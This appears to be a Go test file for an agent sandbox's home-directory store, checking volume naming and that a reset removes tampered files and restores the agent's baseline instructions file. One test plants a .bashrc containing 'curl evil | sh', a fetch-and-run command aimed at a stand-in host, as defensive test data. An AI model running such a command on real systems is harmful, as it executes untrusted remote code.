package home

import (
	"context"
	"github.com/shrooms-cage/shrooms/pkg/taskid"
	"os"
	"path/filepath"
	"testing"

	"gotest.tools/v3/assert"

	"github.com/shrooms-cage/shrooms/internal/itest"
	"github.com/shrooms-cage/shrooms/pkg/config"
)

func TestStoreNamesVolumesAndImages(t *testing.T) {
	cfg := config.Default()
	cfg.State.Dir = t.TempDir()
	cfg.Home.VolumePrefix = "pfx-"
	s := NewStore(nil, cfg)
	assert.Equal(t, s.Name(taskid.Must("t1")), "pfx-t1")
	assert.Equal(t, s.Image(taskid.Must("t1")), filepath.Join(cfg.State.Dir, "homes", "pfx-t1.img"))
	assert.Equal(t, s.Bytes(taskid.Must("t1")), int64(0), "no image: no bytes")
	assert.NilError(t, os.MkdirAll(filepath.Dir(s.Image(taskid.Must("t1"))), 0o700))
	assert.NilError(t, os.WriteFile(s.Image(taskid.Must("t1")), make([]byte, 64<<10), 0o600))
	assert.Assert(t, s.Bytes(taskid.Must("t1")) >= 64<<10, "the image's blocks are counted")
}

// ResetDir is the kube init container's whole HOME work: a planted file is
// gone and the baseline is there after it, on a plain directory.
func TestResetDirResetsAPlainDirectory(t *testing.T) {
	itest.Require(t, itest.Root) // the reset chowns to the agent's uid
	root := filepath.Join(t.TempDir(), "vol")
	assert.NilError(t, os.Mkdir(root, 0o700))
	cfg := config.Default()
	cfg.Home.Profile("claude").Instructions = "Work in /work.\n"
	assert.NilError(t, cfg.Validate())
	uid := 1879048192 + (31000+os.Getpid()%4000)*65536 + 1000
	task := Task{Root: root, UID: uid, GID: uid, Config: cfg, Profiles: []string{"claude"}}
	_, err := ResetDir(context.Background(), task)
	assert.NilError(t, err)
	planted := filepath.Join(Dir(root), ".bashrc")
	assert.NilError(t, os.WriteFile(planted, []byte("curl evil | sh\n"), 0o644))
	rep, err := ResetDir(context.Background(), task)
	assert.NilError(t, err)
	assert.Equal(t, rep.Home, Dir(root))
	_, err = os.Lstat(planted)
	assert.Assert(t, os.IsNotExist(err), "the planted rc file survived the reset: %v", err)
	b, err := os.ReadFile(filepath.Join(Dir(root), ".claude", "CLAUDE.md"))
	assert.NilError(t, err)
	assert.Equal(t, string(b), "Work in /work.\n")
}
